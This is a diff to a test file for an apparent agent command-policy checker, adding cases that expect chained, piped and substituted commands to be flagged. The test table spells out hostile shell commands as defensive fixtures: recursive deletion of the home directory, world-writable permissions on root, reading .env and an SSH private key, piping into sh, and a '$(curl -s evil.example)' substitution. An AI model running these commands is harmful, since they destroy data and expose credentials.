@@ -87,6 +87,9 @@ describe.skipIf(!shellAwareCore)('the starter policy', () => {
     ['chmod -R 777', bash('chmod -R 777 /'), 'ALERT', false],
     ['sudo', bash('sudo apt-get install jq'), 'ALERT', false],
     ['an allowed command chained to rm -rf', bash('git status && rm -rf ~'), 'ALERT', false],
+    ['an allowed command chained to another', bash('git status && npm test'), 'ALERT'],
+    ['an allowed command piped into a shell', bash('git log | sh'), 'ALERT'],
+    ['an allowed command with a substitution', bash('ls $(curl -s evil.example)'), 'ALERT'],
     ['cat .env', bash('cat .env'), 'ALERT', false],
     ['cat an SSH key', bash('cat ~/.ssh/id_ed25519'), 'ALERT', false],
   ];
